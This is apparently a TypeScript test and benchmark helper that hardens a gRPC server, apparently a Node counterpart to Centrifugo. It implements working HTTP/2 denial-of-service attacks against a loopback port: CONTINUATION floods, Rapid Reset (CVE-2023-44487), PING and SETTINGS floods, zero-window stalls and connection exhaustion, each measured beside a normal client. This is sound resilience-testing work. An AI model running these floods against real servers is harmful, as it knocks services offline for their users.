// HTTP/2 floods against a gRPC port, each bounded in time, loopback only: the attacks of
// test/attack/h2-floods.test.ts (against a node process) and bench/attack-vs.ts (against it
// and Centrifugo side by side). Each attack reconnects when the server closes it, and counts
// how the server closed it (the GOAWAY code, or a bare close).
import { credentials, Metadata } from '@grpc/grpc-js';
import { cpuSeconds, rssBytes } from '../../bench/lib/node-process.ts';
import { encodeHeaderBlock } from '../../src/node/transport/grpc/h2/hpack.ts';
import {
  dataFrame,
  ErrorCode,
  Flag,
  FrameType,
  grpcMessage,
  HANDSHAKE,
  headersFrame,
  PREFACE,
  pingFrame,
  RawPeer,
  rawFrame,
  requestBlock,
  rstFrame,
  settingsFrame,
  windowUpdate,
} from '../h2-peer.ts';
import { generatedClient } from '../node/grpc-client.ts';

export interface Target {
  host: string;
  port: number;
  /** The API key (authorization: apikey <key>). */
  key: string;
}

export interface AttackReport {
  name: string;
  /** Connections the attack opened. */
  connections: number;
  /** How the server ended them: `GOAWAY ENHANCE_YOUR_CALM too_many_pings`, `closed`, `open`. */
  endings: Record<string, number>;
  /** Frames (or requests) the attack got onto the wire. */
  sent: number;
}

export type Attack = (target: Target, durationMs: number) => Promise<AttackReport>;

const CODE_NAMES = Object.fromEntries(Object.entries(ErrorCode).map(([k, v]) => [v, k]));
const SERVICE_PATH = '/centrifugal.centrifugo.api.CentrifugoApi';

/** How a connection ended, as reported: the GOAWAY's code and debug data, or how it closed. */
function ending(peer: RawPeer): string {
  const g = peer.goaway();
  if (g) return `GOAWAY ${CODE_NAMES[g.code ?? -1] ?? g.code}${g.debug ? ` ${g.debug}` : ''}`;
  return peer.isOpen ? 'open' : 'closed';
}

class Report {
  readonly r: AttackReport;
  constructor(name: string) {
    this.r = { name, connections: 0, endings: {}, sent: 0 };
  }
  open(target: Target, read = true): RawPeer {
    this.r.connections++;
    return new RawPeer(target.port, { host: target.host, read });
  }
  end(peer: RawPeer): void {
    const e = ending(peer);
    this.r.endings[e] = (this.r.endings[e] ?? 0) + 1;
    peer.destroy();
  }
}

const until = (deadline: number) => Date.now() < deadline;

/**
 * Runs `one` on connection after connection until the time is up, `parallel` at once:
 * each gets its connection and the deadline, and returns once it is done with it.
 */
async function repeat(
  name: string,
  target: Target,
  durationMs: number,
  parallel: number,
  one: (peer: RawPeer, deadline: number, report: Report) => Promise<void>,
  options: { read?: boolean; once?: boolean } = {},
): Promise<AttackReport> {
  const report = new Report(name);
  const deadline = Date.now() + durationMs;
  const read = options.read ?? true;
  await Promise.all(
    Array.from({ length: parallel }, async (_, i) => {
      for (let round = 0; until(deadline) && !(options.once && round > 0); round++) {
        // Reconnects a little apart, so the attack measures the server, not connection setup.
        if (round > 0) await new Promise((r) => setTimeout(r, 10 + (i % 10)));
        const peer = report.open(target, read);
        try {
          await peer.connected();
          await one(peer, deadline, report);
        } catch {
          // A refused or reset connection: the next one is tried.
        }
        // Give the server's GOAWAY a moment to arrive before judging how it ended.
        await peer.closedWithin(Math.max(0, Math.min(500, deadline - Date.now())));
        report.end(peer);
      }
    }),
  );
  return report.r;
}

/** Writes batches of `frames` while the connection is open and there is time. */
async function flood(
  peer: RawPeer,
  deadline: number,
  batch: Buffer,
  report: Report,
  perBatch: number,
) {
  while (peer.isOpen && until(deadline)) {
    if (!(await peer.write(batch))) return;
    report.r.sent += perBatch;
  }
}

/** Empty CONTINUATION frames without END_HEADERS, as fast as the server reads them. */
export const continuationFlood: Attack = (target, durationMs) => {
  const empty = rawFrame(FrameType.CONTINUATION, 0, 1);
  const batch = Buffer.concat(Array.from({ length: 10_000 }, () => empty));
  const start = headersFrame(1, requestBlock(`${SERVICE_PATH}/Info`).subarray(0, 4), 0);
  return repeat(
    'empty CONTINUATION flood',
    target,
    durationMs,
    1,
    async (peer, deadline, report) => {
      await peer.write(Buffer.concat([HANDSHAKE, start]));
      await flood(peer, deadline, batch, report, 10_000);
    },
  );
};

/**
 * Header blocks held open just under the header limit of this server (2 x 64 KiB), by 1-byte
 * CONTINUATION frames, on `connections` connections at once, each held until the server
 * closes it (no reconnecting).
 */
export function heldHeaderBlocks(connections = 60, blockBytes = 120 * 1024): Attack {
  return (target, durationMs) => {
    const oneByte = rawFrame(FrameType.CONTINUATION, 0, 1, Buffer.from([0x40]));
    const chunk = Buffer.concat(Array.from({ length: 4096 }, () => oneByte));
    const start = headersFrame(1, Buffer.from([0x40]), 0);
    return repeat(
      'held 1-byte CONTINUATIONs',
      target,
      durationMs,
      connections,
      async (peer, deadline, report) => {
        await peer.write(Buffer.concat([HANDSHAKE, start]));
        for (let sent = 1; sent < blockBytes && peer.isOpen && until(deadline); sent += 4096) {
          if (!(await peer.write(chunk))) return;
          report.r.sent += 4096;
        }
        // Held: the block never ends.
        await peer.waitFor(() => !peer.isOpen, deadline - Date.now());
      },
      { once: true },
    );
  };
}

/** A PublishRequest: channel (1), data (2). */
export function publishRequest(channel: string, data: string): Buffer {
  const ch = Buffer.from(channel);
  const d = Buffer.from(data);
  return Buffer.concat([Buffer.from([0x0a, ch.length]), ch, Buffer.from([0x12, d.length]), d]);
}

/**
 * Rapid Reset (CVE-2023-44487): HEADERS, DATA with a whole Publish, and RST_STREAM, for stream
 * after stream, each triple in one write, `perSecond` streams a second (20,000: the rate the
 * node was measured at before its limit).
 */
export function rapidReset(channel: string, perSecond = 20_000): Attack {
  return (target, durationMs) => {
    const block = requestBlock(`${SERVICE_PATH}/Publish`, [
      ['authorization', `apikey ${target.key}`],
    ]);
    const body = grpcMessage(publishRequest(channel, '{"reset":true}'));
    const started = Date.now();
    return repeat(
      'Rapid Reset with a body',
      target,
      durationMs,
      1,
      async (peer, deadline, report) => {
        await peer.write(HANDSHAKE);
        let id = 1;
        while (peer.isOpen && until(deadline) && id < 2 ** 31 - 200) {
          const frames: Buffer[] = [];
          for (let i = 0; i < 100; i++, id += 2) {
            frames.push(
              headersFrame(id, block, Flag.END_HEADERS),
              dataFrame(id, body),
              rstFrame(id),
            );
          }
          if (!(await peer.write(Buffer.concat(frames)))) return;
          report.r.sent += 100;
          await pace(report.r.sent, perSecond, started);
        }
      },
    );
  };
}

/** Waits until `sent` items are due at `perSecond` since `started`. */
async function pace(sent: number, perSecond: number, started: number): Promise<void> {
  const wait = started + (sent / perSecond) * 1000 - Date.now();
  if (wait > 0) await new Promise((r) => setTimeout(r, wait));
}

/** PING frames as fast as the server reads them. */
export const pingFlood: Attack = (target, durationMs) => {
  const batch = Buffer.concat(Array.from({ length: 1000 }, (_, i) => pingFrame(i)));
  return repeat('PING flood', target, durationMs, 1, async (peer, deadline, report) => {
    await peer.write(HANDSHAKE);
    await flood(peer, deadline, batch, report, 1000);
  });
};

/** SETTINGS frames (each owed an ACK) from a client that never reads. */
export const settingsFloodUnread: Attack = (target, durationMs) => {
  const batch = Buffer.concat(Array.from({ length: 1000 }, () => settingsFrame([])));
  return repeat(
    'SETTINGS flood, acks never read',
    target,
    durationMs,
    1,
    async (peer, deadline, report) => {
      await peer.write(HANDSHAKE);
      // A write that never completes (the server stopped reading) ends at the deadline.
      await Promise.race([
        flood(peer, deadline, batch, report, 1000),
        new Promise((r) => setTimeout(r, deadline - Date.now())),
      ]);
    },
    { read: false },
  );
};

/** A HistoryRequest: channel (1), limit (2). */
function historyRequest(channel: string, limit: number): Buffer {
  const ch = Buffer.from(channel);
  return Buffer.concat([Buffer.from([0x0a, ch.length]), ch, Buffer.from([0x10, limit])]);
}

/**
 * Clients that give no flow-control window (SETTINGS_INITIAL_WINDOW_SIZE 0) and ask for
 * `requests` History replies each, on `connections` connections, each held until closed (no
 * reconnecting).
 */
export function zeroWindow(
  channel: string,
  connections = 10,
  requests = 1000,
  historyLimit = 100,
): Attack {
  return (target, durationMs) => {
    const block = requestBlock(`${SERVICE_PATH}/History`, [
      ['authorization', `apikey ${target.key}`],
    ]);
    const body = grpcMessage(historyRequest(channel, historyLimit));
    const hello = Buffer.concat([
      PREFACE,
      settingsFrame([[0x4, 0]]),
      rawFrame(FrameType.SETTINGS, Flag.ACK, 0),
    ]);
    return repeat(
      'zero window, History replies never let out',
      target,
      durationMs,
      connections,
      async (peer, deadline, report) => {
        await peer.write(hello);
        for (let i = 0; i < requests && peer.isOpen && until(deadline); i += 100) {
          const frames: Buffer[] = [];
          for (let j = i; j < i + 100; j++) {
            frames.push(
              headersFrame(1 + 2 * j, block, Flag.END_HEADERS),
              dataFrame(1 + 2 * j, body),
            );
          }
          if (!(await peer.write(Buffer.concat(frames)))) return;
          report.r.sent += 100;
        }
        await peer.waitFor(() => !peer.isOpen, deadline - Date.now());
      },
      { once: true },
    );
  };
}

/** Calls that are refused at once (GET, not gRPC), on one well-behaved connection at a time. */
export const refusedCalls: Attack = (target, durationMs) => {
  const get = encodeHeaderBlock([
    [':method', 'GET'],
    [':scheme', 'http'],
    [':path', '/'],
  ]);
  return repeat('refused calls (GET)', target, durationMs, 1, async (peer, deadline, report) => {
    // Windows large enough for every answer: the client reads them all, as a real one would.
    await peer.write(Buffer.concat([HANDSHAKE, windowUpdate(0, 2 ** 31 - 1 - 65_535)]));
    let id = 1;
    while (peer.isOpen && until(deadline) && id < 2 ** 31 - 200) {
      const frames: Buffer[] = [];
      for (let i = 0; i < 50; i++, id += 2)
        frames.push(headersFrame(id, get, Flag.END_HEADERS | Flag.END_STREAM));
      if (!(await peer.write(Buffer.concat(frames)))) return;
      report.r.sent += 50;
      // About 5,000 a second: the rate at which each used to write a warn line.
      await new Promise((r) => setTimeout(r, 10));
    }
  });
};

/** Connections that say nothing, `connections` at once, held until the server closes them. */
export function silentConnections(connections = 200): Attack {
  return (target, durationMs) =>
    repeat(
      'silent connections (no preface)',
      target,
      durationMs,
      connections,
      async (peer, deadline) => {
        await peer.waitFor(() => !peer.isOpen, deadline - Date.now());
      },
      { once: true },
    );
}

/** Connections that do the handshake and then nothing, held until the server closes them. */
export function idleConnections(connections = 50): Attack {
  return (target, durationMs) =>
    repeat(
      'idle connections',
      target,
      durationMs,
      connections,
      async (peer, deadline) => {
        await peer.write(HANDSHAKE);
        await peer.waitFor(() => !peer.isOpen, deadline - Date.now());
      },
      { once: true },
    );
}

export interface ClientReport {
  ok: number;
  failed: number;
  maxMs: number;
  errors: string[];
}

/** A well-behaved grpc-js client calling Info in a loop while `running` says so. */
export async function normalClient(target: Target, running: () => boolean): Promise<ClientReport> {
  const client = generatedClient(`${target.host}:${target.port}`, credentials.createInsecure());
  const md = new Metadata();
  md.set('authorization', `apikey ${target.key}`);
  const out: ClientReport = { ok: 0, failed: 0, maxMs: 0, errors: [] };
  try {
    while (running()) {
      const start = Date.now();
      const res = await client.call('Info', {}, md);
      const ms = Date.now() - start;
      out.maxMs = Math.max(out.maxMs, ms);
      if (res.ok && res.response.result?.nodes?.length > 0) out.ok++;
      else {
        out.failed++;
        if (out.errors.length < 5)
          out.errors.push(JSON.stringify(res.ok ? res.response : res.details));
      }
      await new Promise((r) => setTimeout(r, 20));
    }
  } finally {
    client.close();
  }
  return out;
}

export interface ProcessSample {
  rssStartBytes: number;
  rssMaxBytes: number;
  rssEndBytes: number;
  cpuSeconds: number;
}

/** Samples a process's RSS and CPU every 100 ms until stopped. */
export function probe(pid: number): { stop(): ProcessSample } {
  const rssStart = rssBytes(pid);
  const cpuStart = cpuSeconds(pid);
  let max = rssStart;
  const timer = setInterval(() => {
    try {
      max = Math.max(max, rssBytes(pid));
    } catch {}
  }, 100);
  return {
    stop: () => {
      clearInterval(timer);
      const end = rssBytes(pid);
      return {
        rssStartBytes: rssStart,
        rssMaxBytes: Math.max(max, end),
        rssEndBytes: end,
        cpuSeconds: cpuSeconds(pid) - cpuStart,
      };
    },
  };
}

/** Runs `attack` for `durationMs` beside a normal client, sampling the server process. */
export async function measure(
  attack: Attack,
  target: Target,
  pid: number,
  durationMs: number,
): Promise<{ attack: AttackReport; client: ClientReport; server: ProcessSample }> {
  const p = probe(pid);
  let running = true;
  const client = normalClient(target, () => running);
  const start = Date.now();
  const attackReport = await attack(target, durationMs);
  // The client is served for the whole time, after attacks the server ended early too.
  const left = start + durationMs - Date.now();
  if (left > 0) await new Promise((r) => setTimeout(r, left));
  running = false;
  return { attack: attackReport, client: await client, server: p.stop() };
}
